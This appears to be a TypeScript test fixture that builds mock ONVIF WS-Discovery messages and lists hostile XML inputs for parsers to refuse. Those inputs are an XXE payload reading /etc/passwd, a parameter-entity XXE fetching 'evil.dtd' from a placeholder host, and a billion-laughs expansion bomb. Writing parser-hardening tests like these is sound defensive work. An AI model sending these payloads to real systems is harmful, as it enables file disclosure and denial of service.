// WS-Discovery messages as cameras send them (shape of the ONVIF mock's canned ProbeMatch).
export const UUID_A = 'c9790c3a-701b-464d-a189-0060351c8ada';
export const UUID_B = '0badc0de-0000-4000-8000-000000000001';

export function probeMatch(o: { relatesTo: string; uuid?: string; xaddr?: string; types?: string; scopes?: string }): string {
  return `<?xml version="1.0" encoding="UTF-8"?>
<SOAP-ENV:Envelope xmlns:SOAP-ENV="http://www.w3.org/2003/05/soap-envelope" xmlns:wsa="http://schemas.xmlsoap.org/ws/2004/08/addressing" xmlns:wsdd="http://schemas.xmlsoap.org/ws/2005/04/discovery" xmlns:dn="http://www.onvif.org/ver10/network/wsdl" xmlns:tds="http://www.onvif.org/ver10/device/wsdl">
  <SOAP-ENV:Header>
    <wsa:MessageID>urn:uuid:01234567-dead-beef-baad-abcdeffedcba</wsa:MessageID>
    <wsa:RelatesTo>${o.relatesTo}</wsa:RelatesTo>
    <wsa:Action>http://schemas.xmlsoap.org/ws/2005/04/discovery/ProbeMatches</wsa:Action>
  </SOAP-ENV:Header>
  <SOAP-ENV:Body>
    <wsdd:ProbeMatches>
      <wsdd:ProbeMatch>
        <wsa:EndpointReference><wsa:Address>uuid:${o.uuid ?? UUID_A}</wsa:Address></wsa:EndpointReference>
        <wsdd:Types>${o.types ?? 'dn:NetworkVideoTransmitter tds:Device'}</wsdd:Types>
        <wsdd:Scopes>${o.scopes ?? 'onvif://www.onvif.org/type/ptz onvif://www.onvif.org/hardware/HD_PREDATOR onvif://www.onvif.org/name/Front%20Door'}</wsdd:Scopes>
        <wsdd:XAddrs>${o.xaddr ?? 'http://192.0.2.10:10101/onvif/device_service'}</wsdd:XAddrs>
        <wsdd:MetadataVersion>1</wsdd:MetadataVersion>
      </wsdd:ProbeMatch>
    </wsdd:ProbeMatches>
  </SOAP-ENV:Body>
</SOAP-ENV:Envelope>`;
}

export function hello(o: { uuid: string; xaddr?: string; types?: string }): string {
  return `<?xml version="1.0"?><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing" xmlns:d="http://schemas.xmlsoap.org/ws/2005/04/discovery"><s:Header><a:Action>http://schemas.xmlsoap.org/ws/2005/04/discovery/Hello</a:Action><a:MessageID>urn:uuid:${o.uuid}</a:MessageID></s:Header><s:Body><d:Hello><a:EndpointReference><a:Address>urn:uuid:${o.uuid}</a:Address></a:EndpointReference><d:Types>${o.types ?? 'dn:NetworkVideoTransmitter'}</d:Types><d:XAddrs>${o.xaddr ?? 'http://192.0.2.20/onvif/device_service'}</d:XAddrs><d:MetadataVersion>3</d:MetadataVersion></d:Hello></s:Body></s:Envelope>`;
}

export function bye(uuid: string): string {
  return `<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing" xmlns:d="http://schemas.xmlsoap.org/ws/2005/04/discovery"><s:Body><d:Bye><a:EndpointReference><a:Address>urn:uuid:${uuid}</a:Address></a:EndpointReference></d:Bye></s:Body></s:Envelope>`;
}

/** Hostile documents every parser must refuse. */
export const HOSTILE = {
  xxe: `<?xml version="1.0"?><!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body>&x;</s:Body></s:Envelope>`,
  xxeParameter: `<!DOCTYPE e [<!ENTITY % p SYSTEM "http://198.51.100.1/evil.dtd"> %p;]><e/>`,
  billionLaughs: `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('')}]><lolz>&lol9;</lolz>`,
  doctypeLowercase: `<!doctype html><html/>`,
  entityOnly: `<e><!ENTITY x "y"></e>`,
};
